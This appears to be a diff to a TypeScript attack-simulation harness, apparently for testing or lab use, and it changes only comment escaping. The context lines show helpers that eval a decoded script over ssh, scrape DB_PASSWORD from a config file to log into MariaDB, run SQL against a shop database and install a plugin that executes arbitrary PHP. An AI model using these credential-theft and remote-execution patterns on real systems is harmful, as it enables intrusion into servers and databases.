@@ -48,7 +48,7 @@ export class Attacker {
     return heard.replaceAll(/^a: /gm, "").replace(mark, "");
   };
 
-  /** As deploy on web1, by the grant \`web\`. */
+  /** As deploy on web1, by the grant `web`. */
   readonly bySsh: Shell = (script) =>
     this.inside(`ssh web.example 'sh -c "eval \\"\\$(${decoded(script)})\\""'`);
 
@@ -94,14 +94,14 @@ export class Attacker {
     return (sql) => shell(`psql -X -At -h 10.9.0.20 -U agent -c "${sql}" shop`);
   }
 
-  /** SQL of MariaDB by a password that \`file\` gives away. */
+  /** SQL of MariaDB by a password that `file` gives away. */
   static inMariadb(shell: Shell, file: string, user: string): Shell {
     const password = `$(sed -n "s/.*DB_PASSWORD[\\"', =]*\\([A-Za-z0-9-]*\\).*/\\1/p" ${file})`;
     return (sql) =>
       shell(`mariadb --no-defaults -h ${WEB} -u ${user} -p"${password}" -N -B -e "${sql}"`);
   }
 
-  /** Installs a plugin that runs \`php\`; a person is asked, and says yes. */
+  /** Installs a plugin that runs `php`; a person is asked, and says yes. */
   async plugin(php: string): Promise<void> {
     const slug = `p${randomUUID().slice(0, 8)}`;
     // Whoever writes plugins publishes them at wordpress.org.
